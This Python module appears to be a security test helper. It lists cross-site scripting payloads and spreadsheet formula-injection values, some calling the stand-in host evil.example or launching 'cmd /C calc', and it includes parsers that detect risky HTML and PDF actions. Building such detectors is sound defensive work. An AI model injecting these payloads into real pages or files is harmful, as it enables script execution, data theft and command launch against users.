"""What an attacker writes into every field: scripts, formulas, code, and names of files; and what reads a page."""

import base64
import re
from html.parser import HTMLParser

from pypdf import PdfReader

SCRIPTS = (
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(4)</scr</script>ipt>", "<img src=x onerror=alert(5)>", '"><img src=x onerror=alert(6)>',
    "'><svg onload=alert(7)>", "<svg><script>alert(8)</script></svg>", "<svg/onload=alert(9)>",
    "<body onload=alert(10)>", "<iframe src=javascript:alert(11)>", "<iframe srcdoc='<script>alert(12)</script>'>",
    "<object data=javascript:alert(13)>", "<embed src=//evil.example/14.swf>", "<a href=javascript:alert(15)>x</a>",
    "[x](javascript:alert(16))", "![x](https://evil.example/17.png)", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<link rel=stylesheet href=//evil.example/19.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<form action=javascript:alert(22)><button>x</button></form>",
    "<input autofocus onfocus=alert(23)>", "<select autofocus onfocus=alert(24)></select>",
    "<video><source onerror=alert(25)></video>", "<audio src=x onerror=alert(26)>", "<details open ontoggle=alert(27)>",
    "<marquee onstart=alert(28)>", "<math><mi xlink:href=javascript:alert(29)>x</mi></math>",
    "<style>@import '//evil.example/30.css';</style>", "<p style=background:url(javascript:alert(31))>x</p>",
    "' onmouseover='alert(32)", '" onfocus="alert(33)" autofocus="', "--><script>alert(34)</script><!--",
    "]]><script>alert(35)</script>", "</textarea><script>alert(36)</script>", "</title><script>alert(37)</script>",
    "</style></svg><script>alert(38)</script>", "{{ 7*7 }}<script>alert(39)</script>", "<template><script>alert(40)",
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0",
    "@SUM(1+1)*cmd|'x'!A0", "=WEBSERVICE(\"https://evil.example\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")", "{=1+1}", "+1", "-1", "@a", "=", "https://evil.example", "file://evil.example/x",
    "mailto:x@evil.example",
)  # fmt: skip
_ADDRESSES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "xlink:href", "srcdoc"}
_EMBEDDED = re.compile(r"data:image/svg\+xml;base64,([A-Za-z0-9+/=]+)")


class Dangers(HTMLParser):
    """Collects what a browser would carry out or fetch: tags, handlers, and addresses with a scheme or a host."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.scripts, self.found, self.text = 0, list[str](), ""
        self.feed(html)
        for picture in _EMBEDDED.findall(html):
            inner = Dangers(base64.b64decode(picture).decode("utf-8"))
            self.found += [*inner.found, *["script in a picture"] * inner.scripts]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        if tag in ("iframe", "object", "embed", "base", "form", "link", "marquee", "audio", "video"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in _ADDRESSES and not _is_own(value or "")):
                self.found.append(f"{tag} {name}={value}")
            if name == "style" and re.search(r"url\(|expression|@import", value or ""):
                self.found.append(f"{tag} style={value}")

    def handle_data(self, data: str) -> None:
        self.text += data


def _is_own(address: str) -> bool:
    """An address inside the page or folder, or a picture in the page itself."""
    own_picture = re.match(r"data:image/(png|svg\+xml);base64,", address)
    return bool(own_picture) or not re.match(r"\s*(//|[a-z][a-z0-9+.-]*:)", address, flags=re.IGNORECASE)


_PDF_DANGERS = {"/JavaScript", "/JS", "/Launch", "/URI", "/OpenAction", "/AA", "/EmbeddedFile", "/GoToR", "/SubmitForm"}


def dangers_of_pdf(reader: PdfReader) -> set[str]:
    """Return what a PDF would carry out, fetch or bring along: names of actions in any of its objects."""
    numbers = range(1, len(reader.xref_objStm) + sum(map(len, reader.xref.values())) + 1)
    objects = (reader.get_object(number) for number in numbers if _exists(reader, number))
    return {name for each in objects for name in _PDF_DANGERS if name in re.findall(r"/[A-Za-z]+", str(each))}


def _exists(reader: PdfReader, number: int) -> bool:
    return number in reader.xref_objStm or any(number in known for known in reader.xref.values())
